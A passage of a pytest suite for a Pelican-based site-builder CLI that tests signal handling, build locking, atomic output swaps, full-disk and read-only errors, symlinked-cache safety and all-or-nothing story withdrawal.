        [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, timeout=300
    )
    assert proc.returncode == status, proc.stderr
    assert len(proc.stderr.splitlines()) == 1, proc.stderr
    # Whole: the new build, byte-identical to the previous one (the same content).
    assert snapshot(project / "output") == before
    assert [p.name for p in project.iterdir() if p.name.startswith(".output.build-")] == []


# A card job that takes long and names its worker: imported by each worker as it
# unpickles its first job (spawned workers import what a job names).
_SLOW_CARDS = """
import multiprocessing, os, time
from pathlib import Path
from podium_cards import plugin

HERE = Path(__file__).parent
if multiprocessing.parent_process() is not None:  # a worker, starting up
    (HERE / f"worker-{os.getpid()}").write_text("", "utf-8")
    time.sleep(float(os.environ["SLOW_IMPORT"]))

def render(job):
    (HERE / f"worker-{os.getpid()}").write_text("drawing", "utf-8")
    time.sleep(5)
    (HERE / f"drawn-{os.getpid()}").write_text("", "utf-8")
    return plugin._render(job)
"""


@pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="the card pool needs two CPUs")
@pytest.mark.parametrize(
    ("signum", "status", "message", "whole_job", "slow_import"),
    [
        # `timeout` or `kill PID`: the build alone. It went on until the pool had
        # drawn every card (minutes on a big hub), a stop it did not obey.
        (signal.SIGTERM, 143, "podium: error: the build was terminated (SIGTERM)", False, 0),
        # Ctrl-C reaches every process of the terminal's job: a worker still
        # starting printed "Traceback ... KeyboardInterrupt" under the one line.
        (signal.SIGINT, 130, "podium: error: interrupted (Ctrl-C)", True, 30),
    ],
    ids=["SIGTERM", "SIGINT"],
)
def test_a_signal_while_cards_are_drawn_stops_the_card_pool_at_once(
    project, tmp_path, signum, status, message, whole_job, slow_import
):
    assert _build().exit_code == 0
    before = snapshot(project / "output")
    shutil.rmtree(project / ".podium-cache" / "cards")  # every card drawn again, by the pool
    helpers = tmp_path / "helpers"
    helpers.mkdir()
    (helpers / "slow_cards.py").write_text(_SLOW_CARDS, "utf-8")
    script = (
        "import slow_cards\n"
        "from podium_cards import plugin\n"
        "plugin._render = slow_cards.render\n"
        "from podium_cli.cli import main\n"
        "main(['build', '-q'], prog_name='podium')\n"
    )
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(helpers), str(ROOT / "plugins")]),
        "SLOW_IMPORT": str(slow_import),
    }
    proc = subprocess.Popen(
        [sys.executable, "-c", script],
        cwd=project,
        env=env,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    want = "" if slow_import else "drawing"
    deadline = time.monotonic() + 120
    while not [p for p in helpers.glob("worker-*") if p.read_text("utf-8") == want]:
        assert proc.poll() is None and time.monotonic() < deadline, "no card worker started"
        time.sleep(0.02)
    if whole_job:
        os.killpg(proc.pid, signum)
    else:
        proc.send_signal(signum)
    _, err = proc.communicate(timeout=120)
    # Stopped at once: no worker finished the card it was drawing.
    assert list(helpers.glob("drawn-*")) == []
    assert proc.returncode == status
    assert err.splitlines() == [message]
    workers = [int(p.name.split("-")[1]) for p in helpers.glob("worker-*")]
    assert workers
    for pid in workers:
        with pytest.raises(ProcessLookupError):
            os.kill(pid, 0)
    assert snapshot(project / "output") == before
    assert [p.name for p in project.iterdir() if p.name.startswith(".output.")] == []


@pytest.mark.parametrize("planted", ["symlink", "folder"])
def test_a_lock_file_planted_in_a_restored_cache_is_replaced_never_followed(tmp_path, planted):
    # The cache comes back from CI as a tar, untrusted: a build.lock that is a
    # symlink would have the build open (and truncate, and write its pid into)
    # the file it points at; a folder there would leave the build unlocked.
    from podium_cli.build import LOCK_FILE, _BuildLock

    cache = tmp_path / "cache"
    cache.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("not Podium's\n", encoding="utf-8")
    lock_path = cache / LOCK_FILE
    if planted == "symlink":
        lock_path.symlink_to(outside)
    else:
        (lock_path / "inside").mkdir(parents=True)
    lock = _BuildLock(cache)
    try:
        assert lock.fd is not None  # locked, on a file of its own
        assert lock_path.is_file() and not lock_path.is_symlink()
        assert lock_path.read_text(encoding="ascii") == f"{os.getpid()}\n"
        assert outside.read_text(encoding="utf-8") == "not Podium's\n"
    finally:
        lock.release()


def _second_build_waits(tmp_path, project, patch: str) -> tuple[str, str]:
    """`podium build -q` run with ``patch`` (Python that calls ``pause()`` where
    the build is to stop a while), and once it has paused, `podium build -q -s
    other.py`, which must wait for it: both must end well. What the second said
    on stderr, and the first's process id."""
    ready, go = tmp_path / "ready", tmp_path / "go"
    script = (
        "import os, time\n"
        "from pathlib import Path\n"
        "def pause():\n"
        f"    Path({str(ready)!r}).write_text(str(os.getpid()))\n"
        "    deadline = time.monotonic() + 120\n"
        f"    while not Path({str(go)!r}).exists() and time.monotonic() < deadline:\n"
        "        time.sleep(0.05)\n"
        f"{patch}"
        "from podium_cli.cli import main\n"
        "main(['build', '-q'], prog_name='podium')\n"
    )
    first = subprocess.Popen(
        [sys.executable, "-c", script], cwd=project, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while not ready.exists():
        assert first.poll() is None and time.monotonic() < deadline, first.stderr.read()
        time.sleep(0.05)
    said = tmp_path / "second.err"
    with said.open("w") as err:
        second = subprocess.Popen(
            [sys.executable, "-m", "podium_cli", "build", "-q", "-s", "other.py"],
            cwd=project,
            stderr=err,
            text=True,
        )
        while second.poll() is None and "waiting" not in said.read_text("utf-8"):
            assert time.monotonic() < deadline, "the second build neither ended nor waited"
            time.sleep(0.05)
        go.touch()
        _, first_err = first.communicate(timeout=300)
        second.wait(timeout=300)
    assert first.returncode == 0, first_err
    assert second.returncode == 0, said.read_text("utf-8")
    return said.read_text("utf-8"), ready.read_text()


def test_a_second_build_sharing_the_cache_waits_and_removes_no_card_the_first_needs(
    project, tmp_path
):
    """A `podium serve` rebuild (or a nightly and a hand run) while a build runs:
    both use .podium-cache/cards/, and each removes the cards it does not use.
    The second build, with another brand name (every card another), removed the
    first's cards while it wrote its pages, and the first then stopped with "No
    such file or directory" on a card. The second now waits for the first, says
    so in one line, and both build whole."""
    (project / "other.py").write_text(
        "from pelicanconf import *\n"
        'PODIUM_BRAND = {**PODIUM_BRAND, "name": "Ander bedrijf"}\n'
        'OUTPUT_PATH = "other-output"\n',
        "utf-8",
    )
    said, pid = _second_build_waits(
        tmp_path,
        project,
        "from podium_cards import plugin\n"
        "real = plugin.CardGenerator.generate_output\n"
        "def paused(self, writer):\n"
        "    pause()\n"
        "    real(self, writer)\n"
        "plugin.CardGenerator.generate_output = paused\n",
    )
    assert said.splitlines() == [
        f"podium: waiting for another build using .podium-cache/ (pid {pid}) to finish"
    ]
    for output, brand in (("output", "Testbedrijf"), ("other-output", "Ander bedrijf")):
        cards = list((project / output / "cards").iterdir())
        assert cards and all(c.stat().st_size > 0 for c in cards)
        assert brand in (project / output / "index.html").read_text("utf-8")


def test_two_builds_into_one_output_with_caches_of_their_own_wait_for_each_other(project, tmp_path):
    """Two builds into one output folder, each with a cache of its own
    (PODIUM_CACHE_PATH: the cache's lock did not hold them apart). The second
    swapped its output in between the first's two renames: the first ended in
    "the build stopped: Directory not empty; the previous output is kept", and
    the previous output, with the gh-pages checkout OUTPUT_RETENTION keeps, was
    in a .output.old-* folder the next build deletes. A lock beside the output
    (none in it) has the second wait, saying so in one line."""
    conf = project / "pelicanconf.py"
    conf.write_text(conf.read_text("utf-8") + '\nOUTPUT_RETENTION = [".git"]\n', "utf-8")
    (project / "other.py").write_text(
        'from pelicanconf import *\nPODIUM_CACHE_PATH = "other-cache"\n', "utf-8"
    )
    assert _build().exit_code == 0
    (project / "output" / ".git").mkdir()
    (project / "output" / ".git" / "HEAD").write_text("ref: refs/heads/gh-pages\n", "utf-8")
    said, pid = _second_build_waits(
        tmp_path,
        project,
        "real = os.replace\n"
        "def replace(src, dst, *args, **kwargs):\n"
        "    real(src, dst, *args, **kwargs)\n"
        "    if '.output.old-' in str(dst):  # the previous output is aside\n"
        "        pause()\n"
        "os.replace = replace\n",
    )
    assert said.splitlines() == [
        f"podium: waiting for another build into output/ (pid {pid}) to finish"
    ]
    head = project / "output" / ".git" / "HEAD"
    assert head.read_text("utf-8") == "ref: refs/heads/gh-pages\n"
    # Nothing is left beside the output but the replaced outputs the next build removes.
    beside = sorted(p.name for p in project.iterdir() if p.name.startswith("."))
    assert [n for n in beside if not n.startswith((".output.old-", ".podium-cache"))] == []


@pytest.mark.parametrize("killed", ["carried", "aside"])
def test_a_build_killed_in_its_output_swap_loses_no_checkout(project, killed):
    """OUTPUT_RETENTION = [".git"] (a gh-pages checkout kept in output/), and the
    build killed outright (SIGKILL, the OOM killer) in its swap: once the checkout
    was moved into the new output, not yet in place ("carried"), or once the
    previous output was moved aside too ("aside", no output/ at all). The next
    build deleted both folders as a killed build's leftovers, and the checkout
    with them. It now puts back what the swap had moved first."""
    conf = project / "pelicanconf.py"
    conf.write_text(conf.read_text("utf-8") + '\nOUTPUT_RETENTION = [".git"]\n', "utf-8")
    assert _build().exit_code == 0
    head = project / "output" / ".git" / "HEAD"
    head.parent.mkdir()
    head.write_text("ref: refs/heads/gh-pages\n", "utf-8")
    story = project / "content" / "interviews" / "anna-de-boer.md"
    story.write_text(story.read_text("utf-8") + "\nNieuw.\n", "utf-8")
    script = (
        "import os, signal\n"
        "from pathlib import Path\n"
        "real = os.replace\n"
        "def replace(src, dst, *args, **kwargs):\n"
        "    real(src, dst, *args, **kwargs)\n"
        f"    if {killed!r} == 'carried' and Path(src).name == '.git' or (\n"
        "        '.output.old-' in Path(dst).name):\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "os.replace = replace\n"
        "from podium_cli.cli import main\n"
        "main(['build', '-q'], prog_name='podium')\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, timeout=300
    )
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    assert not head.exists()
    assert (project / "output").exists() == (killed == "carried")
    result = _build()
    assert result.exit_code == 0, result.output
    assert head.read_text("utf-8") == "ref: refs/heads/gh-pages\n"
    assert "Nieuw." in (project / "output" / "stories" / "anna-de-boer" / "index.html").read_text(
        "utf-8"
    )


def test_a_checkout_output_retention_cannot_carry_over_is_never_deleted(project, monkeypatch):
    """OUTPUT_RETENTION = [".git"] (a gh-pages checkout kept in output/): when it could
    not be moved into the new output (a folder that may not be renamed, EACCES), the
    build warned that it was in the replaced output "until the next build removes
    that folder", and went on; when a page had left the site (a story taken down),
    that replaced output was removed before the build returned, checkout and all.
    Now the checkout is moved first, and a build that cannot carry it over fails,
    one line, with the previous output as it was."""
    import errno

    conf = project / "pelicanconf.py"
    conf.write_text(conf.read_text("utf-8") + '\nOUTPUT_RETENTION = [".git"]\n', "utf-8")
    assert _build().exit_code == 0
    (project / "output" / ".git").mkdir()
    (project / "output" / ".git" / "HEAD").write_text("ref: refs/heads/gh-pages\n", "utf-8")
    before = snapshot(project / "output")
    story = project / "content" / "interviews" / "anna-de-boer.md"
    story.write_text(story.read_text("utf-8").replace("---\n", "---\nstatus: draft\n", 1), "utf-8")
    real = os.replace

    def replace(src, dst, *args, **kwargs):
        if Path(src).name == ".git":
            raise PermissionError(errno.EACCES, "Permission denied", str(src))
        return real(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "replace", replace)
    result = _build()
    monkeypatch.setattr(os, "replace", real)
    assert result.exit_code == 1, result.output
    assert result.output.splitlines() == [
        "output/.git: error: OUTPUT_RETENTION could not carry it into the new output "
        "(Permission denied); the previous output is kept"
    ]
    assert snapshot(project / "output") == before
    assert [p.name for p in project.iterdir() if p.name.startswith(".output.")] == []


def test_a_file_the_disk_cannot_take_is_one_line_naming_it(project):
    """A full disk or a quota (here `ulimit -f`, which fails a write the same way)
    while the cards were written: "podium: error: OSError: [Errno 27] File too
    large", naming no file, not the PATH: error: line every other failure is."""
    import resource

    assert _build().exit_code == 0
    before = snapshot(project / "output")
    shutil.rmtree(project / ".podium-cache" / "cards")  # drawn and written again

    def small_files():
        resource.setrlimit(resource.RLIMIT_FSIZE, (40_000, 40_000))  # a card is larger

    proc = subprocess.run(
        [sys.executable, "-m", "podium_cli", "build", "-q"],
        cwd=project,
        capture_output=True,
        text=True,
        preexec_fn=small_files,
        timeout=300,
    )
    assert proc.returncode == 1
    (line,) = proc.stderr.splitlines()
    path, _, message = line.partition(": error: ")
    assert path.startswith(".podium-cache/cards/") and path.endswith(".jpg"), line
    assert message == "cannot write it: File too large; the previous output is kept"
    assert snapshot(project / "output") == before
    assert [p.name for p in project.iterdir() if p.name.startswith(".output.")] == []


def _tiny_disk_works() -> bool:
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        return False
    probe = subprocess.run(
        ["unshare", "-m", "sh", "-c", "mount -t tmpfs -o size=1m tmpfs /mnt"],
        capture_output=True,
    )
    return probe.returncode == 0


@pytest.mark.parametrize(
    ("forks", "first"),
    [(False, False), (True, False), (False, True)],
    ids=["in-order", "forked", "first-build"],
)
def test_a_full_disk_while_a_page_is_written_names_that_page(project, monkeypatch, forks, first):
    """The disk filled up while Pelican wrote a story page: the write (or the
    close that flushes it) fails with ENOSPC and names no file, so the one line
    said "output: error: cannot write it: No space left on device", and from the
    forked page writer "podium: error: OSError: [Errno 28] ...", naming nothing.
    Now the line names the page, in the output it was for. A first build (no
    output before it) said "the previous output is kept" of an output that never was."""
    import errno
    import io

    import podium_render
    from podium import forked

    if first:
        shutil.rmtree(project / "output", ignore_errors=True)
    else:
        assert _build().exit_code == 0
    before = snapshot(project / "output") if not first else None
    story = project / "content" / "interviews" / "anna-de-boer.md"
    story.write_text(story.read_text("utf-8") + "\nNieuw.\n", "utf-8")

    class Full(io.StringIO):
        def close(self):
            raise OSError(errno.ENOSPC, "No space left on device")

    def fake_open(name, mode="r", **kwargs):
        if str(name).endswith("/en/stories/anna-de-boer/index.html"):
            return Full()
        return open(name, mode, **kwargs)

    # Where a page is written, once its bytes are known (podium_render._Page).
    monkeypatch.setattr(podium_render, "open", fake_open, raising=False)
    monkeypatch.setattr(forked, "available", lambda: forks)
    result = _build()
    assert result.exit_code == 1, result.output
    kept = "no output was written" if first else "the previous output is kept"
    assert result.output.splitlines() == [
        f"output/en/stories/anna-de-boer/index.html: error: cannot write it: "
        f"No space left on device; {kept}"
    ]
    if first:
        assert not (project / "output").exists()
    else:
        assert snapshot(project / "output") == before


@pytest.mark.parametrize(
    "name", ["robots.txt", "sitemap.xml", "vacancies.json", "stories.atom.xml", "stories.json"]
)
def test_a_full_disk_while_a_hub_file_is_written_names_that_file(project, monkeypatch, name):
    """The same for the files the hub writes itself (robots.txt, the sitemap, the
    jobs' JSON feed, a story feed): the line named the output folder."""
    import errno

    real_write, real_open = Path.write_text, Path.open

    def full(path):
        if path.name == name:
            raise OSError(errno.ENOSPC, "No space left on device")

    def write_text(self, *args, **kwargs):
        full(self)
        return real_write(self, *args, **kwargs)

    def open_(self, mode="r", *args, **kwargs):
        if "w" in mode:
            full(self)
        return real_open(self, mode, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", write_text)
    monkeypatch.setattr(Path, "open", open_)
    if name.endswith(".atom.xml"):
        # An Atom feed is written into the build cache and linked from there
        # (b780780); on the full disk that write fails first, and the feed is
        # then written in place, as before.
        from podium_render import hub

        def cache_full(path, *args, **kwargs):
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr(hub, "write_sealed", cache_full)
    result = _build()
    assert result.exit_code == 1, result.output
    (line,) = result.output.splitlines()
    assert line.startswith("output/") and line.endswith(
        # (a first build: no output before it)
        f"{name}: error: cannot write it: No space left on device; no output was written"
    ), line


def test_a_full_disk_while_a_cached_feed_is_put_in_place_names_it(project, monkeypatch):
    """A feed kept in the build cache (b780780) is linked, or copied where the
    cache is on another disk, into the output: a full output disk then names the
    feed, as a feed written in place does."""
    import errno

    from podium_render import hub

    assert _build().exit_code == 0  # the feeds are in the cache now
    real_publish = hub.publish

    def publish(source, target):
        if target.name == "stories.atom.xml":
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_publish(source, target)

    monkeypatch.setattr(hub, "publish", publish)
    result = _build()
    assert result.exit_code == 1, result.output
    (line,) = result.output.splitlines()
    assert line.startswith("output/") and line.endswith(
        "stories.atom.xml: error: cannot write it: No space left on device; the previous "
        "output is kept"
    ), line


@pytest.mark.parametrize("name", ["config.yml", "decap-cms.js"])
def test_a_full_disk_while_the_editor_is_written_names_that_file(project, monkeypatch, name):
    """The same for the editor's admin/config.yml (written with Path.write_text)
    and its bundle (copied with shutil.copyfile): the line named the output
    folder, not the file."""
    import errno

    from podium_cms import bundle

    if not bundle.bundle_files():
        pytest.skip("decap-cms is not installed (npm ci); /admin/ is left out of the build")
    conf = project / "pelicanconf.py"
    conf.write_text(
        conf.read_text("utf-8") + 'PODIUM_CMS = {"repo": "helder/werken-bij"}\n', "utf-8"
    )
    real_write, real_copy = Path.write_text, shutil.copyfile

    def full(path):
        if Path(path).name == name and Path(path).parent.name == "admin":
            raise OSError(errno.ENOSPC, "No space left on device")

    def write_text(self, *args, **kwargs):
        full(self)
        return real_write(self, *args, **kwargs)

    def copyfile(src, dst, *args, **kwargs):
        full(dst)
        return real_copy(src, dst, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", write_text)
    monkeypatch.setattr(bundle.shutil, "copyfile", copyfile)
    result = _build()
    assert result.exit_code == 1, result.output
    (line,) = result.output.splitlines()
    assert line.startswith("output/") and line.endswith(
        f"admin/{name}: error: cannot write it: No space left on device; "
        "no output was written"  # a first build
    ), line


@pytest.mark.skipif(not _tiny_disk_works(), reason="needs root and unshare -m for a tiny tmpfs")
def test_a_disk_that_fills_up_during_the_build_is_one_line_and_keeps_the_output(tmp_path):
    """A real full disk (a tmpfs with room for one output, not two): Pagefind
    writes its files cut short, even empty, without a word and with exit status
    0, and the build ended in "podium: error: JSONDecodeError: Expecting value:
    line 1 column 1 (char 0)"."""
    site = copy_site(tmp_path)
    disk = tmp_path / "disk"
    disk.mkdir()
    podium = [sys.executable, "-m", "podium_cli", "build", "-q"]
    script = (
        f"mount -t tmpfs -o size=4400k tmpfs {shlex.quote(str(disk))} || exit 90\n"
        f"cp -r {shlex.quote(str(site))} {shlex.quote(str(disk / 'site'))}\n"
        f"cd {shlex.quote(str(disk / 'site'))}\n"
        f"{shlex.join(podium)} 2>/dev/null || exit 91\n"
        "find output -type f | sort | xargs sha256sum > ../before\n"
        "echo 'Nieuw.' >> content/interviews/anna-de-boer.md\n"
        f"{shlex.join(podium)}\n"
        "echo status $?\n"
        "find output -type f | sort | xargs sha256sum | cmp -s - ../before || echo changed\n"
        "ls -a | grep '^\\.output\\.' || true\n"
    )
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True)
    assert "Traceback" not in proc.stderr
    lines = [line for line in proc.stderr.splitlines() if ": warning: " not in line]
    assert proc.returncode == 0, (proc.returncode, lines)
    assert len(lines) == 1 and ": error: " in lines[0], lines
    assert "No space left on device" in lines[0] or "disk is full" in lines[0], lines
    assert proc.stdout == "status 1\n"  # the output unchanged, no folder left beside it


@pytest.mark.skipif(not _tiny_disk_works(), reason="needs root and unshare -m for a mount")
@pytest.mark.parametrize(
    "mount",
    [
        "mount -t tmpfs -o size=20m tmpfs",
        # A bind mount from the same file system (Docker's -v ./public:/site/public
        # beside the project's own -v .:/site): the same device as the folder
        # above, which os.path.ismount took for no mount, and the build ran whole
        # to end in "Device or resource busy" again.
        "mkdir -p ../volume && mount --bind ../volume",
    ],
)
def test_an_output_folder_that_is_a_mount_point_is_refused_before_building(tmp_path, mount):
    """A volume mounted at output/ (Docker's usual way to share a site with a web
    server's container): the swap cannot rename a mount point, so every build ran
    whole and ended in "output: error: the build stopped: Device or resource busy;
    the previous output is kept", never publishing. Now it is one line before the
    build, saying what works: a folder inside the mount."""
    site = copy_site(tmp_path)
    (site / "output").mkdir()
    podium = [sys.executable, "-m", "podium_cli", "build", "-q"]
    script = (
        f"cd {shlex.quote(str(site))}\n"
        f"{mount} {shlex.quote(str(site / 'output'))} || exit 90\n"
        f"{shlex.join(podium)}\n"
        "echo status $?\n"
        f"{shlex.join(podium)} -o output/site || exit 91\n"
        "ls output/site/index.html\n"
    )
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == ["status 2", "output/site/index.html"]
    assert proc.stderr.splitlines() == [
        f"{site / 'output'}: error: output folder is a mount point (a volume or a disk of "
        "its own), which the build cannot replace whole; build into a folder inside it, "
        "like output/site"
    ]


def _immutable(path: Path, on: bool) -> bool:
    if shutil.which("chattr") is None:
        return False
    flag = "+i" if on else "-i"
    return subprocess.run(["chattr", flag, str(path)], capture_output=True).returncode == 0


def test_a_read_only_output_is_one_line_not_a_silent_copy(project):
    assert _build().exit_code == 0
    stories = project / "output" / "stories"
    if os.geteuid() != 0:
        stories.chmod(0o555)
    elif not _immutable(stories, True):
        pytest.skip("root without chattr: cannot make a folder read-only")
    try:
        before = snapshot(project / "output")
        result = _build()
    finally:
        if os.geteuid() == 0:
            _immutable(stories, False)
        else:
            stories.chmod(0o755)
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert lines == [
        "output/stories: error: output folder is read-only; the build cannot replace it"
    ]
    assert snapshot(project / "output") == before
    assert [p.name for p in project.iterdir() if p.name.startswith(".output")] == []


@pytest.mark.parametrize("where", ["cache", "cards"])
def test_a_cache_that_cannot_be_written_costs_time_not_the_build(
    project, where, caplog, monkeypatch
):
    """A .podium-cache/ left by a build run as another user (or a read-only CI
    mount): the build rendered each card and photo into it before publishing
    it, and failed on the first with "podium: error: PermissionError: ..."."""
    from pelican.log import LimitFilter

    monkeypatch.setattr(LimitFilter, "_raised_messages", set())  # Pelican logs a line once
    cache = project / ".podium-cache"
    if where == "cards":  # a warm cache, and one story's card has to be made again
        assert _build().exit_code == 0
        story = project / "content" / "interviews" / "anna-de-boer.md"
        story.write_text(story.read_text("utf-8").replace('title: "', 'title: "Nieuw: ', 1))
    else:
        cache.mkdir()
    folder = cache / "cards" if where == "cards" else cache
    if os.geteuid() != 0:
        folder.chmod(0o555)
    elif not _immutable(folder, True):
        pytest.skip("root without chattr: cannot make a folder read-only")
    try:
        result = CliRunner().invoke(main, ["build"], catch_exceptions=False)
    finally:
        if os.geteuid() == 0:
            _immutable(folder, False)
        else:
            folder.chmod(0o755)
    assert result.exit_code == 0, result.output
    warned = [r.getMessage() for r in caplog.records if "cache folder" in r.getMessage()]
    assert warned == [
        ".podium-cache: warning: the cache folder cannot be written; this build uses an empty "
        "one of its own (no card, photo or parse is reused or kept, only the feeds' pull "
        "records are read: make the folder writable, or delete it)"
    ], result.output
    assert "Traceback" not in result.output and "Error" not in result.output
    # The summary counted every warning but this one.
    every = [r for r in caplog.records if ": warning: " in r.getMessage()]
    assert f", {len(every)} warnings" in result.output, (len(every), result.output)
    cards = [p for p in (project / "output" / "cards").iterdir() if p.suffix == ".jpg"]
    assert cards and all(p.read_bytes().endswith(b"\xff\xd9") for p in cards)
    if where == "cards":  # the changed story is built with its new title
        pages = (project / "output" / "stories").rglob("*.html")
        assert any("Nieuw: " in p.read_text("utf-8") for p in pages)


@pytest.mark.parametrize("command", ["build", "check", "tag", "report"])
def test_a_cache_folder_that_is_a_link_is_never_written_through(
    project, caplog, monkeypatch, command
):
    """.podium-cache/ as a symlink (restored from a CI cache's tar, or committed in a
    pull request) to another folder: the build wrote its caches there (cards/,
    parsed/, lastmod.json, ...), deleted what it took for stale cards, photos and
    search parts in it, and removed a "pagefind" folder there whole. podium check,
    which a pull request's run starts with, and podium tag wrote their parses there."""
    from pelican.log import LimitFilter

    monkeypatch.setattr(LimitFilter, "_raised_messages", set())  # Pelican logs a line once
    elsewhere = project.parent / "elsewhere"
    for name in ("cards/mine.jpg", "photos/mine.jpg", "pagefind/mine.txt", "parsed/mine.json"):
        (elsewhere / name).parent.mkdir(parents=True, exist_ok=True)
        (elsewhere / name).write_text("not Podium's", "utf-8")
    before = snapshot(elsewhere)
    (project / ".podium-cache").symlink_to(elsewhere, target_is_directory=True)
    result = CliRunner().invoke(main, [command], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert snapshot(elsewhere) == before
    assert sorted(p.relative_to(elsewhere).as_posix() for p in elsewhere.rglob("*")) == sorted(
        ["cards", "photos", "pagefind", "parsed", "cards/mine.jpg", "photos/mine.jpg",
         "pagefind/mine.txt", "parsed/mine.json"]
    )  # fmt: skip
    warned = [r.getMessage() for r in caplog.records if "cache folder" in r.getMessage()]
    warned += [x for x in result.output.splitlines() if "cache folder" in x]
    assert warned == [
        ".podium-cache: warning: the cache folder is a symlink; Podium uses an empty one "
        "of its own and writes nothing through the link (make .podium-cache a folder, or "
        "delete the link)"
    ], result.output
    assert (project / ".podium-cache").is_symlink()


def test_cache_files_replaced_by_folders_cost_time_not_the_build(project):
    """A restored or damaged .podium-cache/ with a folder where a cache file was:
    the build ended in "podium: error: IsADirectoryError: [Errno 21] Is a
    directory" reading it, then (the card drawn again) writing over it."""
    assert _build().exit_code == 0
    cache = project / ".podium-cache"
    for path in [p for p in cache.rglob("*") if p.is_file()]:
        path.unlink()
        (path / "inside").mkdir(parents=True)
    result = _build()
    assert result.exit_code == 0, result.output
    assert "Error" not in result.output
    cards = [p for p in (project / "output" / "cards").iterdir() if p.suffix == ".jpg"]
    assert cards and all(p.read_bytes().endswith(b"\xff\xd9") for p in cards)


# -- withdraw: all or nothing ------------------------------------------------------------------


def _withdraw(slug: str = "anna-de-boer"):
    return CliRunner().invoke(main, ["withdraw", slug, "--yes"], catch_exceptions=False)


def test_withdraw_refuses_a_bad_record_before_touching_anything(project):
    record = project / "content" / "withdrawn.yml"
    record.write_text("alleen een zin\n", "utf-8")
    before = snapshot(project / "content")
    result = _withdraw()
    assert result.exit_code == 1 and "Traceback" not in result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("content/withdrawn.yml:"), result.output
    assert snapshot(project / "content") == before


def test_withdraw_removes_a_translation_that_does_not_parse(project):
    broken = project / "content" / "interviews" / "anna-de-boer.en.md"
    broken.write_text(broken.read_text("utf-8").replace("title:", "title: [unclosed"), "utf-8")
    result = _withdraw()
    assert result.exit_code == 0, result.output
    assert not broken.exists()
    assert not (project / "content" / "interviews" / "anna-de-boer.md").exists()
    assert "anna-de-boer" in (project / "content" / "withdrawn.yml").read_text("utf-8")


@pytest.mark.parametrize("named", ["columns/ben-bakker.md", "themes.yml", "images/logo.png"])
def test_withdraw_removes_only_a_photo_that_a_broken_translation_names(project, named):
    """The "photo" line of a translation that does not parse was never checked: it may
    name another person's story, themes.yml or the brand's logo, which withdrawing
    must leave alone."""
    from PIL import Image

    logo = project / "content" / "images" / "logo.png"
    logo.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (8, 8), (1, 2, 3)).save(logo)
    conf = project / "pelicanconf.py"
    conf.write_text(
        conf.read_text("utf-8") + '\nPODIUM_BRAND = {"name": "X", "logo": "images/logo.png"}\n',
        "utf-8",
    )
    broken = project / "content" / "interviews" / "anna-de-boer.en.md"
    text = broken.read_text("utf-8").replace("title:", f"photo: {named}\ntitle: [unclosed", 1)
    broken.write_text(text, "utf-8")
    result = _withdraw()
    assert result.exit_code == 0, result.output
    assert not broken.exists()
    assert (project / "content" / named).is_file(), result.output


class _Boom(OSError):
    pass


def _failing(real, fail_at: int, calls: list):
    def op(*args, **kwargs):
        calls.append(args)
        if len(calls) == fail_at:
            raise _Boom(5, "Input/output error")
        return real(*args, **kwargs)

    return op


def _count_operations(project) -> int:
    """How many file operations a successful withdrawal does (on a throwaway copy)."""
    import podium_cli.withdraw as w

    copy = project.parent / "count"
    shutil.copytree(project, copy)
    calls: list = []
    os.chdir(copy)
    original = w._move
    w._move = _failing(original, 0, calls)
    try:
        assert _withdraw().exit_code == 0
    finally:
        w._move = original
        os.chdir(project)
    return len(calls)


def test_withdraw_every_failure_point_loses_nothing(project, monkeypatch):
    import podium_cli.withdraw as w

    photo = project / "content" / "images" / "people" / "anna.jpg"
    photo.parent.mkdir(parents=True)
    gps_jpeg(project, photo)
    for name in ("anna-de-boer.md", "anna-de-boer.en.md"):
        path = project / "content" / "interviews" / name
        path.write_text(
            path.read_text("utf-8").replace(
                "team: engineering", "team: engineering\nphoto: images/people/anna.jpg"
            ),
            "utf-8",
        )
    before = snapshot(project / "content")
    steps = _count_operations(project)
    # the record's write, then one move aside per file (two stories, one photo)
    assert steps == 4
    real_move = w._move
    for fail_at in range(1, steps + 1):
        calls: list = []
        # The failing call fails; the undo (more moves) runs for real.
        monkeypatch.setattr(w, "_move", _failing(real_move, fail_at, calls))
        result = _withdraw()
        monkeypatch.setattr(w, "_move", real_move)
        assert result.exit_code == 1, (fail_at, result.output)
        assert "Traceback" not in result.output
        assert len(result.output.strip().splitlines()) == 1, result.output
        after = snapshot(project / "content")
        assert after == before, f"failure at step {fail_at} changed content/"
    assert _withdraw().exit_code == 0
    assert not photo.exists()


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
def test_withdraw_stopped_by_a_signal_half_way_is_all_or_nothing(project, signum):
    """Ctrl-C (or SIGTERM) after the record was written and one file moved aside:
    only an OSError put things back, so content/ kept withdrawn.yml naming the
    story, the English version in place and the Dutch one as a hidden
    .anna-de-boer.md.withdrawn-PID that nothing ever removed."""
    content = project / "content"
    before = snapshot(content)
    script = (
        "import os, podium_cli.withdraw as w\n"
        "real, calls = w._move, []\n"
        "def move(source, target):\n"
        "    real(source, target)\n"
        "    calls.append(target)\n"
        "    if len(calls) == 2:  # the record written, one story moved aside\n"
        f"        os.kill(os.getpid(), {int(signum)})\n"
        "w._move = move\n"
        "from podium_cli.cli import main\n"
